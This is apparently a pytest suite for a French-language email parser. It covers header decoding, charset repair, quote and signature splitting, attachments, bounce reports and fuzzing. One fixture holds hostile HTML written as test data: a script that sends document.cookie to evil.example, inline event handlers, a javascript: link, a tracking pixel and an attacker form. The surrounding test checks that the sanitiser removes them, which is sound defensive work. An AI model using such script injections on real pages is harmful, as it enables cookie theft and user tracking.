"""channels.mime (and the helpers it drives): raw bytes to a ParsedMessage, never crashing."""

from __future__ import annotations

import base64
import hashlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from channels.charsets import decode_bytes
from channels.classify import classify
from channels.html_text import html_to_text, sanitise_html
from channels.mime import ParsedMessage, UnparsableMessage, decode_header_value, parse_message
from channels.quotes import split_reply

SAMPLES = Path(__file__).resolve().parents[2] / "examples" / "mail"
SAMPLE_FILES = sorted(SAMPLES.glob("*.eml"))


def sample(name: str) -> ParsedMessage:
    return parse_message((SAMPLES / name).read_bytes())


def message(headers: str, body: bytes = b"Bonjour\n") -> bytes:
    return headers.strip().replace("\n", "\r\n").encode("ascii") + b"\r\n\r\n" + body


# -- envelope ------------------------------------------------------------------------------


def test_threaded_answer_envelope() -> None:
    parsed = sample("answer-threaded.eml")
    assert (
        parsed.message_id == "<7b1e9c2a-5d44-4f0e-9a51-0c3f2e8d1a77@mairie-saint-exemple.example>"
    )
    assert parsed.in_reply_to == "<20260302091400.4f2a1c@temoin-persona.example>"
    assert parsed.references == ("<20260302091400.4f2a1c@temoin-persona.example>",)
    assert parsed.subject == "Re: Demande d'acte de naissance"
    assert parsed.from_ is not None
    assert parsed.from_.name == "Service État civil – Mairie de Saint-Exemple"
    assert parsed.from_.address == "etat-civil@mairie-saint-exemple.example"
    assert [a.address for a in parsed.to] == ["claire.martin@temoin-persona.example"]
    assert parsed.date == datetime(2026, 3, 3, 9, 12, 38, tzinfo=UTC)
    assert parsed.date_raw == "Tue, 3 Mar 2026 10:12:38 +0100"
    assert parsed.header("user-agent") == "Mozilla Thunderbird"
    assert parsed.defects == ()


def test_every_sample_parses_cleanly() -> None:
    assert len(SAMPLE_FILES) >= 15
    for path in SAMPLE_FILES:
        parsed = parse_message(path.read_bytes())
        assert parsed.date is not None and parsed.date.tzinfo is UTC, path.name
        assert parsed.from_ is not None, path.name
        assert parsed.text.strip(), path.name
        assert not any(d.startswith("parser error") for d in parsed.defects), path.name


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Tue, 3 Mar 2026 10:12:38 +0100", datetime(2026, 3, 3, 9, 12, 38, tzinfo=UTC)),
        ("3 Mar 2026 10:12 -0500", datetime(2026, 3, 3, 15, 12, tzinfo=UTC)),
        # -0000: UTC without a claim about local time; still an aware UTC datetime
        ("Tue, 3 Mar 2026 10:12:38 -0000", datetime(2026, 3, 3, 10, 12, 38, tzinfo=UTC)),
        ("Tue, 3 Mar 2026 10:12:38 CET", datetime(2026, 3, 3, 10, 12, 38, tzinfo=UTC)),
    ],
)
def test_date_header_becomes_aware_utc(value: str, expected: datetime) -> None:
    parsed = parse_message(message(f"From: a@b.example\nDate: {value}"))
    assert parsed.date == expected
    assert parsed.date is not None and parsed.date.utcoffset() is not None
    assert parsed.date_raw == value


def test_missing_or_broken_date_is_none_and_raw_is_kept() -> None:
    assert parse_message(message("From: a@b.example")).date is None
    broken = parse_message(message("From: a@b.example\nDate: mardi dernier vers midi"))
    assert broken.date is None
    assert broken.date_raw == "mardi dernier vers midi"
    assert "Date header not parsable" in broken.defects


def test_ids_keep_brackets_and_bare_ids_are_normalised() -> None:
    parsed = parse_message(
        message(
            "From: a@b.example\nMessage-ID: bare-id@host.example\n"
            "In-Reply-To: <x@y.example> (comment)\n"
            "References: <r1@y.example>\n <r2@y.example>\t<r3@y.example>"
        )
    )
    assert parsed.message_id == "<bare-id@host.example>"
    assert parsed.in_reply_to == "<x@y.example>"
    assert parsed.references == ("<r1@y.example>", "<r2@y.example>", "<r3@y.example>")


def test_null_return_path_and_addresses() -> None:
    parsed = parse_message(
        message(
            'Return-Path: <>\nFrom: "Mairie, accueil" <accueil@m.example>\n'
            "To: a@b.example, =?utf-8?q?J=C3=A9r=C3=B4me?= <j@b.example>\n"
            "Cc: Undisclosed recipients:;\nReply-To: r@m.example"
        )
    )
    assert parsed.return_path == ""
    assert parsed.from_ is not None and parsed.from_.name == "Mairie, accueil"
    assert [(a.name, a.address) for a in parsed.to] == [
        ("", "a@b.example"),
        ("Jérôme", "j@b.example"),
    ]
    assert parsed.cc == ()
    assert [a.address for a in parsed.reply_to] == ["r@m.example"]


# -- RFC 2047 and raw 8-bit headers ------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=?utf-8?q?R=C3=A9ponse_automatique?=", "Réponse automatique"),
        (
            "=?ISO-8859-1?Q?R=E9ponse?= =?ISO-8859-1?Q?_=E0_votre?= demande",
            "Réponse à votre demande",
        ),
        # a multi-byte character split across two words (some mailers do that)
        ("=?utf-8?B?w6k=?= =?utf-8?B?w6A=?=", "éà"),
        ("=?utf-8?B?ww==?= =?utf-8?B?qQ==?=", "é"),
        ("=?utf-8?Q?=C3?=\n =?utf-8?Q?=A9t=C3=A9?=", "été"),
        ("Objet : =?utf-8?Q?caf=C3=A9?=, merci", "Objet : café, merci"),
        ("=?utf-8*fr?Q?fran=C3=A7ais?=", "français"),
        ("=?windows-1252?Q?=80_et_=9C?=", "€ et œ"),
        ("pas encodé", "pas encodé"),
    ],
)
def test_rfc2047_words(raw: str, expected: str) -> None:
    assert decode_header_value(raw, []) == expected


def test_rfc2047_unknown_charset_is_guessed_with_a_defect() -> None:
    defects: list[str] = []
    assert decode_header_value("=?x-inconnu?Q?caf=C3=A9?=", defects) == "café"
    assert any("unknown charset 'x-inconnu'" in d for d in defects)


def test_raw_8bit_headers_utf8_and_cp1252() -> None:
    raw = b"From: \xc3\x89lise <e@b.example>\r\nSubject: Re: caf\xe9 \x80\r\n\r\nBonjour\r\n"
    parsed = parse_message(raw)
    assert parsed.from_ is not None and parsed.from_.name == "Élise"
    assert parsed.subject == "Re: café €"
    assert "raw 8-bit header bytes read as windows-1252" in parsed.defects


# -- charsets ------------------------------------------------------------------------------

FRENCH = "Réglé : 5 € pour les vœux… « l’été »"


@pytest.mark.parametrize(
    ("declared", "payload", "defect"),
    [
        ("utf-8", FRENCH.encode("utf-8"), None),
        ("windows-1252", FRENCH.encode("cp1252"), None),
        ("iso-8859-15", "Réglé : 5 € pour les vœux".encode("iso-8859-15"), None),
        # windows-1252 mislabelled: the C1 bytes (€ œ … ’) give it away
        ("iso-8859-1", FRENCH.encode("cp1252"), "windows-1252 text labelled 'iso-8859-1'"),
        ("us-ascii", FRENCH.encode("cp1252"), "windows-1252 text labelled 'us-ascii'"),
        ("utf-8", FRENCH.encode("cp1252"), "invalid utf-8 bytes read as windows-1252"),
        (None, FRENCH.encode("cp1252"), "windows-1252 text labelled 'no charset'"),
        ("x-mac-inconnu", FRENCH.encode("cp1252"), "unknown charset 'x-mac-inconnu'"),
        # utf-8 labelled latin-1, and latin-1 wrongly labelled utf-8
        ("iso-8859-1", FRENCH.encode("utf-8"), "utf-8 text labelled 'iso-8859-1'"),
    ],
)
def test_french_charsets_survive(declared: str | None, payload: bytes, defect: str | None) -> None:
    charset = f"; charset={declared}" if declared else ""
    raw = message(
        f"From: a@b.example\nContent-Type: text/plain{charset}\nContent-Transfer-Encoding: 8bit",
        payload,
    )
    parsed = parse_message(raw)
    expected = payload.decode("utf-8") if declared == "iso-8859-1" and b"\xc3" in payload else None
    text = parsed.text.strip()
    if expected is None:
        expected = "Réglé : 5 € pour les vœux" if declared == "iso-8859-15" else FRENCH
    assert text == expected
    for char in "é€œ":
        assert char in text
    if defect is None:
        assert parsed.defects == ()
    else:
        assert any(defect in d for d in parsed.defects), parsed.defects


def test_utf8_with_a_few_cp1252_bytes_keeps_both() -> None:
    payload = "Réponse : ".encode() + "prix 5 €".encode("cp1252")
    assert decode_bytes(payload, "utf-8", []) == "Réponse : prix 5 €"


def test_double_encoded_c1_characters_are_read_as_cp1252() -> None:
    # cp1252 bytes read as latin-1 then saved as utf-8: U+0080 stands for €
    payload = "5 \x80 et \x9c".encode()
    defects: list[str] = []
    assert decode_bytes(payload, "utf-8", defects) == "5 € et œ"
    assert defects == ["C1 control characters read as windows-1252"]


def test_mislabelled_sample_keeps_every_character() -> None:
    parsed = sample("answer-mislabelled-cp1252.eml")
    for fragment in ("0,50 €", "vœux", "démarche…", "« civique »", "l’inscription", "Élections"):
        assert fragment in parsed.text
    assert parsed.defects == ("windows-1252 text labelled 'iso-8859-1'",)


# -- HTML ----------------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>t</title><style>p{background:url(https://t.example/s.gif)}</style>
<script>document.location='https://evil.example/'+document.cookie</script></head>
<body onload="steal()"><p onclick="x()" style="color:red">Bonjour
<b onmouseover="y()">Madame</b>,</p>
<img src="https://tracker.example/pixel.gif?u=42" onerror="z()" width=1 height=1>
<p>Voir <a href="https://www.mairie.example/demarches?a=1&amp;b=2" onclick="w()">les démarches</a>
et <a href="javascript:alert(1)">ceci</a>.</p>
<iframe src="https://evil.example/frame"></iframe><svg><script>alert(2)</script></svg>
<form action="https://evil.example"><input name=q></form>
<a href="mailto:accueil@mairie.example">accueil@mairie.example</a></body></html>"""


def test_html_is_sanitised() -> None:
    clean = sanitise_html(HOSTILE_HTML)
    lowered = clean.lower()
    for forbidden in ("<script", "<style", "<img", "<iframe", "<svg", "<form", "<input", "<a "):
        assert forbidden not in lowered
    for forbidden in ("onload", "onclick", "onmouseover", "onerror", "style=", "javascript:"):
        assert forbidden not in lowered
    for forbidden in ("tracker.example", "evil.example", "t.example", "document.cookie"):
        assert forbidden not in lowered
    # links survive as text followed by their address
    assert "les démarches (https://www.mairie.example/demarches?a=1&amp;b=2)" in clean
    assert "accueil@mairie.example" in clean and "mailto:" not in clean


def test_html_to_text_structure() -> None:
    html = sanitise_html(
        "<p>Bonjour&nbsp;Madame,</p><p>Ligne 1<br>Ligne 2</p>"
        "<ul><li>justificatif de domicile</li><li>pièce d'identité</li></ul>"
        "<ol><li>remplir</li><li>envoyer</li></ol>"
        '<p>Portail : <a href="https://famille.example/">espace famille</a></p>'
        "<blockquote><p>question d'origine</p></blockquote>"
    )
    assert html_to_text(html).split("\n") == [
        "Bonjour Madame,",
        "",
        "Ligne 1",
        "Ligne 2",
        "",
        "- justificatif de domicile",
        "- pièce d'identité",
        "",
        "1. remplir",
        "2. envoyer",
        "",
        "Portail : espace famille (https://famille.example/)",
        "",
        "> question d'origine",
    ]


def test_html_only_outlook_sample() -> None:
    parsed = sample("answer-outlook-html.eml")
    assert parsed.html is not None
    assert "logo-signature.png" not in parsed.html and "<img" not in parsed.html
    assert "portail famille (https://www.ville-exempleville.example/famille/dossier-unique)" in (
        parsed.new_text
    )
    assert "- l’attestation de quotient familial de la CAF ;" in parsed.new_text
    assert parsed.new_text.endswith("Cordialement,")
    assert "Nadia Haddad" in parsed.signature and "Tél. : 02 98 76 54 32" in parsed.signature
    assert parsed.quoted_text.startswith("De : Claire Martin")
    assert "Nous venons d’emménager" in parsed.quoted_text
    assert "emménager" not in parsed.new_text


def test_deeply_nested_html_is_flattened_quickly() -> None:
    raw = message(
        "From: a@b.example\nContent-Type: text/html; charset=utf-8",
        b"<div>" * 50_000 + b"<p>texte</p>" + b"</div>" * 50_000,
    )
    parsed = parse_message(raw)
    assert parsed.text == "texte"
    assert "HTML nested deeper than 200 levels, flattened" in parsed.defects


# -- quotes and signatures -------------------------------------------------------------------

QUOTE_STYLES = {
    "gmail-fr": (
        "Bonjour,\nVoici la réponse.\n\n"
        "Le lun. 2 mars 2026 à 10:12, Claire Martin <claire.martin@temoin-persona.example>\n"
        "a écrit :\n\n> Bonjour,\n> ma question\n"
    ),
    "thunderbird-fr": (
        "Bonjour,\nVoici la réponse.\n\nLe 02/03/2026 à 10:12, Claire Martin a écrit :\n"
        "> ma question\n"
    ),
    "apple-nbsp": (
        "Bonjour,\nVoici la réponse.\n\n"
        "Le 2 mars 2026 à 10:12, Claire Martin <c@p.example> a écrit\u00a0:\n\n> ma question\n"
    ),
    "english": (
        "Bonjour,\nVoici la réponse.\n\nOn Mon, Mar 2, 2026 at 10:12 AM Claire Martin "
        "<c@p.example> wrote:\n> ma question\n"
    ),
    "outlook-fr": (
        "Bonjour,\nVoici la réponse.\n\n________________________________\n"
        "De : Claire Martin <c@p.example>\nEnvoyé : lundi 2 mars 2026 10:12\n"
        "À : accueil@m.example\nObjet : Question\n\nma question\n"
    ),
    "outlook-new-fr": (
        "Bonjour,\nVoici la réponse.\n\nDe : Claire Martin <c@p.example>\n"
        "Date : lundi 2 mars 2026 à 10:12\nÀ : accueil@m.example\nObjet : Question\n\n"
        "ma question\n"
    ),
    "outlook-origine": (
        "Bonjour,\nVoici la réponse.\n\n-----Message d'origine-----\nDe : Claire Martin\n"
        "Envoyé : lundi 2 mars 2026 10:12\n\nma question\n"
    ),
    "outlook-english": (
        "Bonjour,\nVoici la réponse.\n\n-----Original Message-----\nFrom: Claire Martin\n"
        "Sent: Monday, March 2, 2026 10:12 AM\nTo: accueil@m.example\nSubject: Question\n\n"
        "ma question\n"
    ),
    "zimbra": (
        'Bonjour,\nVoici la réponse.\n\n----- Mail original -----\nDe: "Claire Martin" '
        "<c@p.example>\nÀ: accueil@m.example\nEnvoyé: Lundi 2 Mars 2026 10:12:00\n"
        "Objet: Question\n\nma question\n"
    ),
    "bare-quote": "Bonjour,\nVoici la réponse.\n\n> ma question\n",
}


@pytest.mark.parametrize("style", sorted(QUOTE_STYLES))
def test_quote_separation(style: str) -> None:
    parts = split_reply(QUOTE_STYLES[style])
    assert parts.new_text == "Bonjour,\nVoici la réponse."
    assert "ma question" in parts.quoted
    assert "réponse" not in parts.quoted


def test_interleaved_replies_keep_their_own_lines() -> None:
    parts = split_reply("> Quels horaires ?\nDe 9 h à 12 h.\n> Et le samedi ?\nFermé.\n")
    assert parts.new_text == "De 9 h à 12 h.\nFermé."
    assert parts.quoted == "> Quels horaires ?\n> Et le samedi ?"


def test_a_sentence_starting_with_le_is_not_a_quote_header() -> None:
    text = "Le service est ouvert le lundi.\nLe dossier a été écrit par l'agent.\nCordialement"
    assert split_reply(text).new_text == text


@pytest.mark.parametrize(
    ("text", "new_text", "signature"),
    [
        (
            "Voici la réponse.\n\n-- \nMarie Dupont\nAccueil\n",
            "Voici la réponse.",
            "Marie Dupont\nAccueil",
        ),
        (
            "Voici la réponse.\n\nBien cordialement,\n\nMarie Dupont\nService État civil\n"
            "Tél. : 01 23 45 67 89\n",
            "Voici la réponse.\n\nBien cordialement,",
            "Marie Dupont\nService État civil\nTél. : 01 23 45 67 89",
        ),
        (
            "Voici la réponse.\nVeuillez agréer, Madame, l'expression de nos salutations\n"
            "distinguées.\nLe Maire,\nJean Durand\n",
            "Voici la réponse.\nVeuillez agréer, Madame, l'expression de nos salutations\n"
            "distinguées.",
            "Le Maire,\nJean Durand",
        ),
        (
            "Voici la réponse.\n\nEnvoyé de mon iPhone\n",
            "Voici la réponse.",
            "Envoyé de mon iPhone",
        ),
        ("Voici la réponse.\nCordialement\n", "Voici la réponse.\nCordialement", ""),
        # what follows the closing is too long to be a signature: it stays in the text
        (
            "Cordialement,\n" + "\n".join(f"Point {i} de la réponse détaillée." for i in range(15)),
            "Cordialement,\n" + "\n".join(f"Point {i} de la réponse détaillée." for i in range(15)),
            "",
        ),
    ],
)
def test_signature_separation(text: str, new_text: str, signature: str) -> None:
    parts = split_reply(text)
    assert parts.new_text == new_text
    assert parts.signature == signature


# -- attachments and reports --------------------------------------------------------------------


def test_attachment_metadata_only() -> None:
    parsed = sample("answer-attachment.eml")
    (attachment,) = parsed.attachments
    assert attachment.filename == "notice déclaration préalable.pdf"
    assert attachment.content_type == "application/pdf"
    raw = (SAMPLES / "answer-attachment.eml").read_bytes()
    encoded = raw.split(b"X-Attachment-Id: f_m7x2k9a10\n\n", 1)[1].split(b"\n--", 1)[0]
    content = base64.b64decode(encoded)
    assert attachment.size == len(content)
    assert attachment.sha256 == hashlib.sha256(content).hexdigest()
    assert not hasattr(attachment, "content")


def test_attachment_name_in_rfc2047_and_inline_image() -> None:
    raw = message(
        'From: a@b.example\nContent-Type: multipart/mixed; boundary="b"',
        b"--b\r\nContent-Type: text/plain\r\n\r\nVoir PJ\r\n"
        b'--b\r\nContent-Type: image/png; name="=?utf-8?Q?plan_d=27acc=C3=A8s.png?="\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n",
    )
    parsed = parse_message(raw)
    assert [(a.filename, a.content_type, a.size) for a in parsed.attachments] == [
        ("plan d'accès.png", "image/png", 8)
    ]
    assert parsed.text.strip() == "Voir PJ"


def test_report_parts_and_returned_headers() -> None:
    dsn = sample("bounce-postfix-dsn.eml")
    assert dsn.report_type == "delivery-status"
    fields = dict(dsn.report_parts[0].fields())
    assert fields["Status"] == "4.4.1"
    assert fields["Final-Recipient"] == "rfc822; police@commune-de-lexemple.example"
    embedded = dict(dsn.embedded_headers)
    assert embedded["Message-ID"] == "<20260302101500.5e6f77@temoin-persona.example>"
    # the returned message is not the bounce's text
    assert "Des véhicules stationnent" not in dsn.text

    ndr = sample("bounce-exchange-ndr.eml")
    assert (
        dict(ndr.embedded_headers)["Message-ID"] == "<20260304150000.d15c0a@temoin-persona.example>"
    )


# -- not mail, broken mail ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"   \r\n\r\n",
        b"Bonjour, ceci n'est pas un courriel.\n",
        b"\x89PNG\r\n\x1a\n\x00",
        b": x\n",
    ],
)
def test_not_an_email_is_unparsable(raw: bytes) -> None:
    with pytest.raises(UnparsableMessage) as caught:
        parse_message(raw)
    assert caught.value.reason


def test_mbox_separator_line_is_skipped() -> None:
    raw = b"From MAILER-DAEMON Tue Mar  3 10:12:00 2026\n" + message(
        "From: a@b.example\nSubject: x"
    )
    assert parse_message(raw).subject == "x"


def test_broken_boundary_keeps_the_text() -> None:
    raw = message(
        "From: a@b.example\nContent-Type: multipart/alternative; boundary=annonce",
        b"--autre\r\nContent-Type: text/plain\r\n\r\nLe texte reste lisible.\r\n--autre--\r\n",
    )
    parsed = parse_message(raw)
    assert "Le texte reste lisible." in parsed.text
    assert "StartBoundaryNotFoundDefect" in parsed.defects


def test_bad_base64_and_bad_quoted_printable() -> None:
    raw = message(
        'From: a@b.example\nContent-Type: multipart/mixed; boundary="b"',
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\nR=C3=A9ponse =ZZ fin=\r\n"
        b"--b\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"JVBER*&^%i0xLjQ=\r\n--b--\r\n",
    )
    parsed = parse_message(raw)
    assert parsed.text.startswith("Réponse =ZZ fin")
    assert parsed.attachments[0].content_type == "application/pdf"
    assert any("Base64" in d for d in parsed.defects)


def test_deep_multipart_nesting_does_not_crash() -> None:
    depth = 3000
    body = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
        for i in range(depth)
    )
    body += b"Content-Type: text/plain\r\n\r\nau fond\r\n"
    body += b"".join(b"--b%d--\r\n" % i for i in reversed(range(depth)))
    parsed = parse_message(b"From: a@b.example\r\nSubject: profond\r\n" + body)
    assert parsed.subject == "profond"
    assert any("nested" in d for d in parsed.defects)


def test_huge_and_numerous_headers_are_capped() -> None:
    huge = parse_message(message("From: a@b.example\nSubject: " + "x" * 100_000))
    assert len(huge.subject) <= 16_384
    assert any("longer than" in d for d in huge.defects)
    many = parse_message(
        b"".join(b"X-Trace-%d: v\r\n" % i for i in range(5000)) + b"\r\nBonjour\r\n"
    )
    assert len(many.headers) == 500
    # hostile nesting of comments in an address header (recursion in the stdlib parser)
    nested = parse_message(message("From: " + "(" * 3000 + "x" + ")" * 3000 + " <a@b.example>"))
    assert nested.from_ is not None and nested.from_.address == "a@b.example"


# -- fuzz ------------------------------------------------------------------------------------

FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def check_never_crashes(raw: bytes) -> None:
    try:
        parsed = parse_message(raw)
    except UnparsableMessage as exc:
        assert exc.reason
        return
    # the last-resort guard must not be what saved us: every step guards itself
    assert not any(d.startswith("parser error") for d in parsed.defects), parsed.defects
    assert parsed.date is None or parsed.date.tzinfo is UTC
    classify(parsed)


@FUZZ
@given(st.binary(max_size=4000))
def test_fuzz_random_bytes(raw: bytes) -> None:
    check_never_crashes(raw)


@FUZZ
@given(st.binary(max_size=4000))
def test_fuzz_random_body_after_headers(body: bytes) -> None:
    check_never_crashes(
        b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + body
    )


SAMPLE_BYTES = [path.read_bytes() for path in SAMPLE_FILES]


@FUZZ
@given(
    st.sampled_from(SAMPLE_BYTES),
    st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=0, max_size=8)), max_size=12),
    st.floats(0.05, 1),
)
def test_fuzz_mutated_samples(raw: bytes, edits: list[tuple[float, bytes]], keep: float) -> None:
    data = bytearray(raw[: max(1, int(len(raw) * keep))])
    for where, replacement in edits:
        at = int(where * (len(data) - 1))
        data[at : at + len(replacement)] = replacement
    check_never_crashes(bytes(data))


charsets = st.sampled_from(
    ["utf-8", "iso-8859-1", "iso-8859-15", "windows-1252", "us-ascii", "utf-7", "utf-16",
     "x-inconnu", "undefined", "unicode_escape", "zlib_codec", "", '"', "idna", "cp037"]
)  # fmt: skip
encodings = st.sampled_from(["7bit", "8bit", "base64", "quoted-printable", "x-uuencode", "bogus"])
content_types = st.sampled_from(
    ["text/plain", "text/html", "application/pdf", "message/rfc822", "message/delivery-status",
     "text/rfc822-headers", "message/disposition-notification", "multipart/mixed"]
)  # fmt: skip


@st.composite
def mime_trees(draw: st.DrawFn, depth: int = 0) -> bytes:
    if depth < 6 and draw(st.booleans()):
        boundary = draw(st.sampled_from(["b", "=_x", "a b", ""])) + str(depth)
        declared = boundary if draw(st.integers(0, 4)) else "autre"
        children = draw(st.lists(mime_trees(depth + 1), max_size=3))
        parts = b"".join(
            b"--" + declared.encode() + b"\r\n" + child + b"\r\n" for child in children
        )
        closing = b"--" + declared.encode() + b"--\r\n" if draw(st.booleans()) else b""
        kind = draw(st.sampled_from(["mixed", "alternative", "related", "report"]))
        header = (
            f'Content-Type: multipart/{kind}; boundary="{boundary}"; report-type=delivery-status'
        )
        return header.encode() + b"\r\n\r\n" + parts + closing
    ctype = draw(content_types)
    charset = draw(charsets)
    cte = draw(encodings)
    filename = draw(
        st.sampled_from(["", '; name="=?utf-8?Q?r=C3=A9ponse.pdf?="', "; name*=x''%ZZ"])
    )
    body = draw(st.binary(max_size=300))
    head = f"Content-Type: {ctype}; charset={charset}{filename}\r\nContent-Transfer-Encoding: {cte}"
    return head.encode() + b"\r\n\r\n" + body


@FUZZ
@given(mime_trees(), st.binary(max_size=200))
def test_fuzz_structured_mime(tree: bytes, subject: bytes) -> None:
    head = b"From: =?utf-8?B?w6k=?= <a@b.example>\r\nSubject: " + subject.replace(b"\n", b" ")
    check_never_crashes(head + b"\r\nMIME-Version: 1.0\r\n" + tree)


@FUZZ
@given(
    st.sampled_from(["Subject", "From", "To", "Date", "References", "Content-Type", "X-Huge"]),
    st.sampled_from(["x", "=?utf-8?B?w6k=?= ", "(", "<a@b.example>, ", "\xe9", '"']),
)
def test_fuzz_huge_headers(name: str, unit: str) -> None:
    value = (unit * (100_000 // len(unit) + 1))[:100_000]
    check_never_crashes(f"{name}: {value}\r\nFrom: a@b.example\r\n\r\nBonjour".encode("latin-1"))
